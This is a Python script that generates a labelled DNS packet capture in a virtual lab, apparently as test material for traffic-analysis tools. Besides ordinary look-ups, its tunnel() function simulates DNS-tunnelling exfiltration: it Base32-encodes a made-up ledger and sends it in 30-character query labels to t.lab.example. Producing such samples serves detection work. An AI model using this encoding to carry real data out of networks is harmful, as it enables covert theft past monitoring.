"""Make names.pcapng and its ground truth: ``python -m sample_captures.make.names [FOLDER]`` (root; about 15 seconds).

A client asks one name server for A, AAAA, CNAME, MX, SRV, TXT and PTR records and for names that don't exist, over UDP and over
TCP; one answer is too long for its datagram and is asked for again over TCP; nobody answers at a second address. Then an infected
machine carries a file out in the names it asks for.
"""

from __future__ import annotations

import base64
import re
import sys
import time
from pathlib import Path
from typing import Any

from sample_captures.make import servers
from sample_captures.make.lab import Lab, wait_for
from sample_captures.make.recording import Sample, Truth, command_line, record

HOSTS = {
    "dns": ("10.40.2.53", "name server"),
    "desk": ("10.40.2.21", "a person's workstation"),
    "infected": ("10.40.2.66", "machine whose data leaves in names"),
    "silent": ("10.40.2.54", "address where nobody listens and nothing answers"),
}
SERVER, SILENT = HOSTS["dns"][0], HOSTS["silent"][0]
LONG = ("ledger", "seven lanterns are better than one; " * 6)
"""two TXT strings of this length pass what fits into a datagram of 512 bytes"""
CARRIED = "the osprey ledger, page one: " + "; ".join(f"account {n} owes {n * 37}" for n in range(60))
"""what leaves in names; Base32 there, so nobody finds it as it stands"""
PIECE = 30
ASKED = (
    ("portal.lab.example", "A"), ("portal.lab.example", "AAAA"), ("www.lab.example", "A"), ("lab.example", "MX"),
    ("_ldap._tcp.lab.example", "SRV"), ("lab.example", "TXT"), ("-x", "10.40.2.10"), ("nowhere.lab.example", "A"),
    ("nowhere.lab.example", "AAAA"), ("printer.lab.example", "A"),
)  # fmt: skip
RECORDS = [
    "--host-record=portal.lab.example,10.40.2.10,fd00:40:2::10",
    "--cname=www.lab.example,portal.lab.example",
    "--mx-host=lab.example,mail.lab.example,10",
    "--srv-host=_ldap._tcp.lab.example,portal.lab.example,389",
    "--txt-record=lab.example,made for a capture",
    "--ptr-record=10.2.40.10.in-addr.arpa,portal.lab.example",
    "--address=/t.lab.example/10.40.2.99",
    *(f"--txt-record={LONG[0]}.lab.example,{n} {LONG[1]}" for n in range(4)),
]


def prepare(lab: Lab) -> None:
    """dnsmasq on ``dns``, knowing made-up names only; ``silent`` drops whatever comes."""
    options = ["--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--user=root", "--pid-file="]
    options += ["--log-queries=extra", "--log-facility=-", f"--listen-address={SERVER}", "--bind-interfaces"]
    options += ["--local=/example/", "--local=/10.in-addr.arpa/", *RECORDS]
    lab.start("dns", ["dnsmasq", *options], "dnsmasq.log")
    wait_for("dnsmasq", lambda: lab.listening("dns", 53))
    servers.firewall(lab, "silent", "udp dport 53 drop")


def dig(lab: Lab, truth: Truth, who: str, *words: str) -> str:
    """One look-up at the name server; dnsmasq's log says from which sockets, dig which of them was TCP. Returns what dig said."""
    seen = len(servers.dns_queries(lab.text("dnsmasq.log")))
    began = round(time.time(), 3)
    said = lab.run(who, ["dig", "+tries=1", f"@{SERVER}", *words])
    last = "tcp" if re.search(r";; SERVER: .*\(TCP\)", said) else "udp"
    sockets: dict[int, list[str]] = {}
    for _client, port, kind, name in servers.dns_queries(lab.text("dnsmasq.log"))[seen:]:
        sockets.setdefault(port, []).append(f"{kind} {name}")
    status = re.findall(r"status: (\w+),", said)[-1]
    for n, (port, queries) in enumerate(sockets.items(), 1):
        proto = last if n == len(sockets) else "udp"  # an answer cut short was asked for over UDP first
        again = [c for c in truth.connections if (c["proto"], c["src"], c["src_port"]) == (proto, HOSTS[who][0], port)]
        if again:  # dig chose that port before
            again[0]["queries"] += queries
            continue
        truth.add(
            who=who, program="dig", time=began, proto=proto, src=HOSTS[who][0], src_port=port, dst=SERVER, dst_port=53,
            service="dns", outcome="completed" if proto == "tcp" else "answered", queries=queries, status=status,
            truncated=n < len(sockets),
        )  # fmt: skip
    return said


def tunnel(lab: Lab, truth: Truth) -> dict[str, Any]:
    """A file in Base32, thirty characters a name."""
    truth.step("a file leaves in names")
    text = base64.b32encode(CARRIED.encode()).decode().rstrip("=").lower()
    pieces = [text[at : at + PIECE] for at in range(0, len(text), PIECE)]
    for n, piece in enumerate(pieces):
        dig(lab, truth, "infected", f"{n:04x}.{piece}.t.lab.example", "A")
    truth.plant(CARRIED, "body", clear=False)
    return {"source": HOSTS["infected"][0], "domain": "t.lab.example", "queries": len(pieces), "bytes": len(CARRIED)}


def play(lab: Lab, truth: Truth) -> dict[str, Any]:
    """Ordinary look-ups, long and unanswered ones, then the tunnel."""
    truth.step("ordinary look-ups")
    for words in ASKED:
        dig(lab, truth, "desk", *words)
        time.sleep(0.1)
    truth.step("TCP")
    dig(lab, truth, "desk", "+tcp", "portal.lab.example", "A")
    dig(lab, truth, "desk", "+bufsize=512", f"{LONG[0]}.lab.example", "TXT")
    truth.step("no answer")
    own = HOSTS["desk"][0]
    lab.run("desk", ["dig", "+tries=1", "+time=1", "-b", f"{own}#45053", f"@{SILENT}", "portal.lab.example"], check=False)
    truth.add(
        who="desk", program="dig", proto="udp", src=own, src_port=45053, dst=SILENT, dst_port=53, service="dns",
        outcome="no answer", queries=["A portal.lab.example"],
    )  # fmt: skip
    return {"dns_tunnel": tunnel(lab, truth)}


SAMPLE = Sample("names", "bridge of 10.40.2.0/24", 24, HOSTS, ("dig", "dnsmasq", "nft", "dumpcap"), play, prepare)


def make(folder: Path) -> dict[str, Any]:
    """Both files into ``folder``; returns the ground truth."""
    return record(SAMPLE, folder)


if __name__ == "__main__":
    sys.exit(command_line(__doc__, make))
